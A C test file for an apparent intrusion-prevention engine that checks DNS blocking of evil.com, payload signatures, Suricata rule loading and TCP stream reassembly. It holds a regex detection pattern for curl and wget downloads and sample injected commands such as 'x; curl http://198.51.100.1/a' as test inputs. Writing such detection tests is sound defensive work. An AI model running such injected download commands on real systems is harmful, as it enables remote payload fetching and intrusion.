/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * hyp_engine: one policy, real DNS queries and payloads, the verdict and
 * the rule that decided it. TAP.
 */
#include <netinet/in.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include <rte_log.h>

#include "hyp_engine.h"
#include "tap.h"

static const char policy_yaml[] =
"slow_path:\n"
"  dns_rules:\n"
"    - match: \"evil.com\"\n"
"      action: \"drop\"\n"
"      id: 10\n"
"    - match: \"watch.example\"\n"
"      action: alert\n"
"      id: 11\n"
"  payload_signatures:\n"
"    - match: \"EVILBYTES\"\n"
"      action: alert\n"
"      id: 20\n"
"      threshold: {type: limit, track: by_dst, count: 2, seconds: 30}\n"
"  payload_rules:\n"
"    - id: 30\n"
"      msg: \"shell download\"\n"
"      regex: \"(wget|curl)\\\\s+http\"\n"
"      protocol: 6\n"
"      port: 80\n"
"      action: drop\n";

/* A DNS query for name, built label by label. */
static size_t
dns_query(uint8_t *b, const char *name)
{
	size_t o = 12, l;
	const char *p = name, *dot;

	memset(b, 0, 12);
	b[0] = 0x12; b[1] = 0x34;	/* id */
	b[2] = 0x01;			/* RD */
	b[5] = 1;			/* QDCOUNT */
	while (*p) {
		dot = strchr(p, '.');
		l = dot ? (size_t)(dot - p) : strlen(p);
		b[o++] = l;
		memcpy(b + o, p, l);
		o += l;
		p += l + (dot ? 1 : 0);
	}
	b[o++] = 0;
	b[o++] = 0; b[o++] = 1;		/* A */
	b[o++] = 0; b[o++] = 1;		/* IN */
	return o;
}

static void
expect(struct hyp_engine *e, struct hyp_engine_scratch *s, const char *name,
       const uint8_t *pl, size_t len, uint8_t proto, uint16_t dport,
       enum hyp_action want, uint32_t want_id)
{
	struct hyp_verdict v;

	hyp_engine_inspect(e, s, pl, len, proto, dport, &v);
	tap(v.action == want && v.rule_id == want_id, name,
	    "got %s rule %u, want %s rule %u (rrname '%s', dns_err %d)",
	    hyp_action_name(v.action), v.rule_id, hyp_action_name(want), want_id,
	    v.rrname, v.dns_err);
}

#define DNS_MALFORMED 2000003

/* A query with the given questions (at most 8), each name label by label. */
static size_t
dns_multi(uint8_t *b, const char *const *names, unsigned int n, unsigned int qdcount)
{
	size_t o = dns_query(b, names[0]), one;
	unsigned int i;

	for (i = 1; i < n; i++) {
		uint8_t t[300];

		one = dns_query(t, names[i]);
		memcpy(b + o, t + 12, one - 12);
		o += one - 12;
	}
	b[4] = (uint8_t)(qdcount >> 8);
	b[5] = (uint8_t)qdcount;
	return o;
}

/*
 * Every question counts, not only the first; every message of a TCP
 * payload too; a name hidden behind a benign one is found.
 */
static void
test_questions(struct hyp_engine *e, struct hyp_engine_scratch *s)
{
	static const char *const two[] = { "www.example.com", "x.evil.com" };
	static const char *const nine[] = { "a", "b", "c", "d", "e", "f", "g", "h", "x.evil.com" };
	struct hyp_verdict v;
	uint8_t b[1024], t[1024];
	size_t n, m;

	n = dns_multi(b, two, 2, 2);
	hyp_engine_inspect(e, s, b, n, IPPROTO_UDP, 53, &v);
	tap(v.action == HYP_ACTION_DROP && v.rule_id == 10 && strcmp(v.rrname, "x.evil.com") == 0,
	    "two questions, the blocked name second: dropped, the second name reported",
	    "action %d rule %u rrname '%s'", v.action, v.rule_id, v.rrname);
	b[5] = 3;	/* a third question announced, not there */
	hyp_engine_inspect(e, s, b, n, IPPROTO_UDP, 53, &v);
	tap(v.action == HYP_ACTION_DROP && v.dns_err == HYP_DNS_ETRUNC,
	    "a question announced but missing after a blocked one: still dropped, and malformed",
	    "action %d dns_err %d", v.action, v.dns_err);
	n = dns_multi(b, nine, 9, 9);
	hyp_engine_inspect(e, s, b, n, IPPROTO_UDP, 53, &v);
	tap(v.action == HYP_ACTION_ALERT && v.rule_id == DNS_MALFORMED &&
	    v.dns_err == HYP_DNS_ETOOMANY,
	    "nine questions (more than are read): dns_malformed, not a pass", "action %d err %d",
	    v.action, v.dns_err);

	/* TCP: a benign query, then the blocked one, pipelined in one segment */
	n = dns_query(b, "www.example.com");
	t[0] = 0, t[1] = (uint8_t)n;
	memcpy(t + 2, b, n);
	m = dns_query(b, "y.evil.com");
	t[2 + n] = 0, t[3 + n] = (uint8_t)m;
	memcpy(t + 4 + n, b, m);
	expect(e, s, "TCP: two pipelined queries, the blocked one second: dropped", t, 4 + n + m,
	       IPPROTO_TCP, 53, HYP_ACTION_DROP, 10);
	expect(e, s, "TCP: a benign query and the next one's first byte only: passed", t, 3 + n,
	       IPPROTO_TCP, 53, HYP_ACTION_PASS, 0);
	expect(e, s, "TCP: a length prefix alone: dns_malformed", t, 2, IPPROTO_TCP, 53,
	       HYP_ACTION_ALERT, DNS_MALFORMED);
}

/* Feed pieces to one stream; the verdict of all of them. */
static void
feed(struct hyp_engine *e, struct hyp_engine_scratch *s, struct hyp_engine_stream **st,
     const uint8_t *b, const size_t *cuts, unsigned int n, uint16_t dport, struct hyp_verdict *v)
{
	size_t at = 0;
	unsigned int i;

	hyp_engine_verdict_init(v);
	for (i = 0; i < n; i++) {
		hyp_engine_stream_feed(e, s, st, b + at, cuts[i], IPPROTO_TCP, dport, NULL, NULL, v);
		at += cuts[i];
	}
}

static void
test_streams(struct hyp_engine *e, struct hyp_engine_scratch *s, struct hyp_engine *e2)
{
	static const uint8_t sig[] = "GET /a HTTP/1.1\r\nX: EVILBYTES\r\n\r\n";
	struct hyp_engine_stream *st = NULL;
	struct hyp_verdict v;
	uint8_t b[600];
	size_t n, m;

	{
		const size_t cuts[] = { 22, sizeof(sig) - 1 - 22 };	/* "...EVIL" | "BYTES..." */

		feed(e, s, &st, sig, cuts, 2, 8080, &v);
	}
	tap(v.action == HYP_ACTION_ALERT && v.rule_id == 20,
	    "stream: a signature cut across two segments is found", "action %d rule %u",
	    v.action, v.rule_id);
	hyp_engine_stream_free(st);
	st = NULL;

	/* DNS over TCP: the length prefix alone, then the query in two pieces */
	n = dns_query(b + 2, "www.evil.com");
	b[0] = 0, b[1] = (uint8_t)n;
	{
		const size_t cuts[] = { 2, 7, n - 7 };

		feed(e, s, &st, b, cuts, 3, 53, &v);
	}
	tap(v.action == HYP_ACTION_DROP && v.rule_id == 10 && strcmp(v.rrname, "www.evil.com") == 0,
	    "stream: DNS over TCP, its length prefix and query in three segments: dropped",
	    "action %d rule %u rrname '%s'", v.action, v.rule_id, v.rrname);
	/* the next message on the same connection, pipelined with a third */
	n = dns_query(b + 2, "www.example.com");
	b[0] = 0, b[1] = (uint8_t)n;
	m = dns_query(b + 4 + n, "z.evil.com");
	b[2 + n] = 0, b[3 + n] = (uint8_t)m;
	{
		const size_t cuts[] = { 4 + n + m };

		feed(e, s, &st, b, cuts, 1, 53, &v);
	}
	tap(v.action == HYP_ACTION_DROP && strcmp(v.rrname, "z.evil.com") == 0,
	    "stream: the next two messages in one segment: the blocked one found", "rrname '%s'",
	    v.rrname);
	hyp_engine_stream_free(st);
	st = NULL;

	/* a reload between the two halves: the new generation starts afresh */
	{
		struct hyp_engine_scratch *s2 = NULL;

		hyp_engine_verdict_init(&v);
		hyp_engine_stream_feed(e, s, &st, sig, 22, IPPROTO_TCP, 8080, NULL, NULL, &v);
		if (hyp_engine_scratch_alloc(e2, &s2) == 0) {
			hyp_engine_stream_feed(e2, s2, &st, sig + 22, sizeof(sig) - 1 - 22, IPPROTO_TCP,
					       8080, NULL, NULL, &v);
			hyp_engine_scratch_free(s2);
		}
	}
	tap(v.action == HYP_ACTION_PASS, "stream: halves fed under two generations are not joined",
	    "action %d", v.action);
	hyp_engine_stream_free(st);
	tap(hyp_engine_stream_size(e) > 0, "a stream has a size", "%zu", hyp_engine_stream_size(e));
}

/* ---- Suricata rules from the policy's rule_files ---- */

static void
write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");

	if (f != NULL) {
		fputs(text, f);
		fclose(f);
	}
}

static void
v4a(uint8_t a[16], uint8_t b0, uint8_t b1, uint8_t b2, uint8_t b3)
{
	memset(a, 0, 16);
	a[10] = a[11] = 0xff;
	a[12] = b0;
	a[13] = b1;
	a[14] = b2;
	a[15] = b3;
}

static void
sig_pkt(struct hyp_detect_pkt *p, uint8_t *src, uint8_t *dst, uint8_t proto, uint16_t dport,
	const void *pl, size_t len)
{
	memset(p, 0, sizeof(*p));
	p->family = 4;
	p->proto = proto;
	p->src = src;
	p->dst = dst;
	p->sport = 40000;
	p->dport = dport;
	p->ttl = 64;
	p->to_server = true;
	p->established = true;
	p->payload = pl;
	p->len = (uint32_t)len;
	p->dsize = (uint32_t)len;
}

static void
test_rule_files(void)
{
	char dir[] = "/tmp/hypengXXXXXX", path[256], sub[256];
	struct hyp_engine_rule_info info;
	struct hyp_policy_error perr;
	struct hyp_engine_scratch *s = NULL;
	struct hyp_engine *e = NULL;
	struct hyp_policy *p = NULL;
	struct hyp_detect_pkt dp;
	struct hyp_verdict v;
	uint8_t src[16], dst[16], b[512];
	char err[512] = "";
	size_t n;

	if (mkdtemp(dir) == NULL) {
		tap(false, "temp dir", NULL);
		return;
	}
	snprintf(sub, sizeof(sub), "%s/et", dir);
	mkdir(sub, 0700);
	snprintf(path, sizeof(path), "%s/et/test.rules", dir);
	write_file(path,
		   "alert tcp any any -> any any (msg:\"evil\"; content:\"EVILX\"; "
		   "classtype:bad-unknown; sid:100; rev:3;)\n"
		   "drop tcp any any -> any any (msg:\"drop me\"; content:\"DROPME\"; sid:101;)\n"
		   "pass tcp any any -> any any (msg:\"pass me\"; content:\"PASSME\"; sid:102;)\n"
		   "alert dns any any -> any any (msg:\"dns evil\"; dns.query; content:\"evil\"; "
		   "priority:1; sid:103;)\n"
		   "alert udp $HOME_NET any -> any any (msg:\"home\"; content:\"HOMEVAR\"; sid:104;)\n"
		   "alert smb any any -> any any (content:\"x\"; sid:105;)\n"
		   "alert tcp any any -> any any (content:\"dup\"; sid:10;)\n"
		   "alert tcp any any -> any any (content:\"dup2\"; sid:2000003;)\n");
	snprintf(path, sizeof(path), "%s/et/classification.config", dir);
	write_file(path, "config classification: bad-unknown,Potentially Bad Traffic, 2\n");
	snprintf(path, sizeof(path), "%s/policy.yaml", dir);
	write_file(path, "slow_path:\n  dns_rules: [{match: evil.com, action: drop, id: 10}]\n"
			 "  rule_files: [et/test.rules]\n"
			 "  rule_vars: {HOME_NET: \"[198.18.0.0/15]\"}\n");
	if (hyp_policy_load(path, &p, &perr) < 0 ||
	    hyp_engine_build(p, 3, &e, err, sizeof(err)) < 0 ||
	    hyp_engine_scratch_alloc(e, &s) < 0) {
		tap(false, "an engine with rule_files", "%s %s", perr.msg, err);
		goto out;
	}
	tap(hyp_engine_rule_count(e) == 1 + 5 && hyp_engine_rules_report(e)->loaded == 5 &&
	    hyp_engine_rules_report(e)->skipped == 1 && hyp_engine_rules_report(e)->errors == 2 &&
	    strstr(hyp_engine_rules_report(e)->first_error, "sid 10 is a dns_rules id") != NULL,
	    "rule_files: 5 Suricata rules after the YAML one, the smb rule skipped, the sids of "
	    "a YAML rule and an engine event refused", "count %u errors %u: %s",
	    hyp_engine_rule_count(e), hyp_engine_rules_report(e)->errors,
	    hyp_engine_rules_report(e)->first_error);
	v4a(src, 198, 18, 0, 1);
	v4a(dst, 198, 51, 100, 7);

	sig_pkt(&dp, src, dst, IPPROTO_TCP, 80, "xx EVILX", 8);
	hyp_engine_inspect_pkt(e, s, &dp, &v);
	hyp_engine_rule_info(e, 1, &info);
	tap(v.action == HYP_ACTION_ALERT && v.rule_id == 100 && v.n_sigs == 1 && v.sigs[0] == 1 &&
	    info.suricata && info.rev == 3 && info.severity == 2 &&
	    strcmp(info.category, "Potentially Bad Traffic") == 0,
	    "an alert rule: its slot, rev, and classification.config's text and priority",
	    "action %d rule %u sigs %u sev %u cat '%s'", v.action, v.rule_id, v.n_sigs,
	    info.severity, info.category);
	sig_pkt(&dp, src, dst, IPPROTO_TCP, 80, "DROPME EVILX", 12);
	hyp_engine_inspect_pkt(e, s, &dp, &v);
	tap(v.action == HYP_ACTION_DROP && v.rule_id == 101 && v.n_sigs == 2,
	    "drop and alert: the drop decides, both alert", "action %d rule %u sigs %u", v.action,
	    v.rule_id, v.n_sigs);
	sig_pkt(&dp, src, dst, IPPROTO_TCP, 80, "PASSME DROPME", 13);
	hyp_engine_inspect_pkt(e, s, &dp, &v);
	tap(v.action == HYP_ACTION_PASS && v.sig_pass && v.n_sigs == 0 && v.rule_id == 102,
	    "a pass rule passes the packet and silences it (Suricata's order)", "action %d sigs %u",
	    v.action, v.n_sigs);
	n = dns_query(b, "www.evil.com");
	sig_pkt(&dp, src, dst, IPPROTO_UDP, 53, b, n);
	hyp_engine_inspect_pkt(e, s, &dp, &v);
	hyp_engine_rule_info(e, 4, &info);
	tap(v.action == HYP_ACTION_DROP && v.rule_id == 10 && v.n_sigs == 1 && v.sigs[0] == 4 &&
	    info.severity == 1, "a DNS query: the YAML rule drops, the dns.query rule alerts too "
	    "(priority 1)", "action %d rule %u sigs %u", v.action, v.rule_id, v.n_sigs);
	sig_pkt(&dp, src, dst, IPPROTO_UDP, 9, "HOMEVAR", 7);
	hyp_engine_inspect_pkt(e, s, &dp, &v);
	{
		bool home = v.n_sigs == 1;

		v4a(src, 8, 8, 8, 8);
		hyp_engine_inspect_pkt(e, s, &dp, &v);
		tap(home && v.n_sigs == 0, "rule_vars: HOME_NET from the policy", NULL);
	}
out:
	hyp_engine_scratch_free(s);
	hyp_engine_free(e);
	p = NULL;

	/* a rule file that is not there: the build fails and says which */
	snprintf(path, sizeof(path), "%s/policy.yaml", dir);
	write_file(path, "slow_path:\n  rule_files: [et/none.rules]\n");
	if (hyp_policy_load(path, &p, &perr) == 0) {
		int ret = hyp_engine_build(p, 4, &e, err, sizeof(err));

		tap(ret < 0 && strstr(err, "slow_path.rule_files[0]") != NULL &&
		    strstr(err, "No such file") != NULL, "a missing rule file fails the build",
		    "%d %s", ret, err);
	} else {
		tap(false, "policy with a missing rule file parses", "%s", perr.msg);
	}
	snprintf(path, sizeof(path), "rm -rf '%s'", dir);
	if (system(path) != 0)
		printf("# could not remove %s\n", dir);
}

int
main(void)
{
	struct hyp_policy_error perr;
	struct hyp_engine_scratch *s;
	struct hyp_policy *p;
	struct hyp_engine *e;
	struct hyp_verdict v;
	uint8_t b[512];
	char err[256];
	size_t n;

	rte_openlog_stream(stderr);
	if (hyp_policy_parse(policy_yaml, sizeof(policy_yaml) - 1, "engine.yaml", &p, &perr) < 0 ||
	    hyp_engine_build(p, 7, &e, err, sizeof(err)) < 0 ||
	    hyp_engine_scratch_alloc(e, &s) < 0) {
		printf("Bail out! building the engine: %s %s\n", perr.msg, err);
		return 1;
	}
	tap(hyp_engine_gen(e) == 7, "engine keeps its generation", NULL);
	test_rule_files();
	{
		const struct hyp_threshold_spec *t0 = hyp_engine_rule_threshold(e, 0);
		const struct hyp_threshold_spec *t2 = hyp_engine_rule_threshold(e, 2);
		const struct hyp_threshold_spec *t3 = hyp_engine_rule_threshold(e, 3);

		tap(t0 != NULL && t0->type == HYP_THRESHOLD_NONE && t2 != NULL &&
		    t2->type == HYP_THRESHOLD_LIMIT && t2->track == HYP_TRACK_BY_DST &&
		    t2->count == 2 && t2->seconds == 30 && t3 != NULL &&
		    t3->type == HYP_THRESHOLD_NONE && hyp_engine_rule_threshold(e, 4) == NULL,
		    "each slot's threshold: the signature's at slot 2, none elsewhere, NULL past the end",
		    NULL);
	}

	n = dns_query(b, "WWW.Evil.COM");
	expect(e, s, "DNS query for a subdomain, mixed case: drop by rule 10", b, n,
	       IPPROTO_UDP, 53, HYP_ACTION_DROP, 10);
	hyp_engine_inspect(e, s, b, n, IPPROTO_UDP, 53, &v);
	tap(v.dns_query && strcmp(v.rrname, "www.evil.com") == 0, "query name is reported normalized",
	    "rrname '%s'", v.rrname);
	tap(v.msg != NULL && strcmp(v.msg, "HYPERION DNS query for evil.com") == 0,
	    "a DNS rule's EVE signature text: HYPERION DNS query for <match>",
	    "msg '%s'", v.msg ? v.msg : "(null)");
	tap(v.dns_rule, "a DNS rule decided it (judged per query)", NULL);
	n = dns_query(b, "notevil.com");
	expect(e, s, "notevil.com is not evil.com", b, n, IPPROTO_UDP, 53, HYP_ACTION_PASS, 0);
	n = dns_query(b, "evil.com");
	expect(e, s, "the domain itself", b, n, IPPROTO_UDP, 53, HYP_ACTION_DROP, 10);
	expect(e, s, "DNS rules apply to queries on port 53 only", b, n, IPPROTO_UDP, 5353,
	       HYP_ACTION_PASS, 0);
	n = dns_query(b, "a.watch.example");
	expect(e, s, "alert rule", b, n, IPPROTO_UDP, 53, HYP_ACTION_ALERT, 11);
	{
		uint8_t t[520];

		n = dns_query(t + 2, "x.evil.com");
		t[0] = n >> 8;
		t[1] = n & 0xff;
		expect(e, s, "DNS over TCP (length-prefixed)", t, n + 2, IPPROTO_TCP, 53,
		       HYP_ACTION_DROP, 10);
	}
	b[2] = 0x81;	/* QR: a response is not a query */
	n = dns_query(b, "evil.com");
	b[2] = 0x81;
	hyp_engine_inspect(e, s, b, n, IPPROTO_UDP, 53, &v);
	tap(v.action == HYP_ACTION_ALERT && v.rule_id == DNS_MALFORMED && !v.dns_query &&
	    v.dns_err == HYP_DNS_ENOTQUERY,
	    "a DNS response to port 53 is not matched as a query: dns_malformed (alert), and says why",
	    "action %d rule %u dns_err %d", v.action, v.rule_id, v.dns_err);
	hyp_engine_inspect(e, s, (const uint8_t *)"\xc0", 1, IPPROTO_UDP, 53, &v);
	tap(v.action == HYP_ACTION_ALERT && v.dns_err == HYP_DNS_ETRUNC && v.dns_rule &&
	    v.slot == -1 && v.msg != NULL && strstr(v.msg, "does not parse") != NULL,
	    "1 byte on port 53: dns_malformed (alert, per message, no rule slot), flagged truncated",
	    "action %d dns_err %d", v.action, v.dns_err);
	test_questions(e, s);

	expect(e, s, "literal signature anywhere in the payload",
	       (const uint8_t *)"GET /EVILBYTES HTTP/1.0", 23, IPPROTO_TCP, 8080,
	       HYP_ACTION_ALERT, 20);
	hyp_engine_inspect(e, s, (const uint8_t *)"GET /EVILBYTES HTTP/1.0", 23, IPPROTO_TCP,
			   8080, &v);
	tap(v.msg != NULL && strcmp(v.msg, "HYPERION payload signature 20") == 0,
	    "a payload signature's EVE signature text: HYPERION payload signature <id>",
	    "msg '%s'", v.msg ? v.msg : "(null)");
	hyp_engine_inspect(e, s, (const uint8_t *)"x; curl  http://198.51.100.1/a", 30,
			   IPPROTO_TCP, 80, &v);
	tap(v.msg != NULL && strcmp(v.msg, "shell download") == 0,
	    "a payload rule's EVE signature text is its msg", "msg '%s'",
	    v.msg ? v.msg : "(null)");
	expect(e, s, "regex scoped to TCP/80 matches there",
	       (const uint8_t *)"x; curl  http://198.51.100.1/a", 30, IPPROTO_TCP, 80,
	       HYP_ACTION_DROP, 30);
	expect(e, s, "and not on TCP/8080",
	       (const uint8_t *)"x; curl  http://198.51.100.1/a", 30, IPPROTO_TCP, 8080,
	       HYP_ACTION_PASS, 0);
	hyp_engine_inspect(e, s, (const uint8_t *)"x; curl  http://198.51.100.1/a", 30,
			   IPPROTO_TCP, 80, &v);
	tap(!v.dns_rule, "a payload rule decided it (judged per flow)", NULL);
	expect(e, s, "drop beats alert in one payload",
	       (const uint8_t *)"EVILBYTES wget http://x", 23, IPPROTO_TCP, 80,
	       HYP_ACTION_DROP, 30);
	expect(e, s, "empty payload passes", (const uint8_t *)"", 0, IPPROTO_TCP, 80,
	       HYP_ACTION_PASS, 0);

	{
		struct hyp_policy *p2;
		struct hyp_engine *e2;

		if (hyp_policy_parse(policy_yaml, sizeof(policy_yaml) - 1, "engine2.yaml", &p2,
				     &perr) < 0 || hyp_engine_build(p2, 8, &e2, err, sizeof(err)) < 0) {
			printf("Bail out! building the second engine\n");
			return 1;
		}
		test_streams(e, s, e2);
		hyp_engine_free(e2);
	}
	hyp_engine_scratch_free(s);
	hyp_engine_free(e);
	printf("1..%u\n", test_no);
	return failed;
}
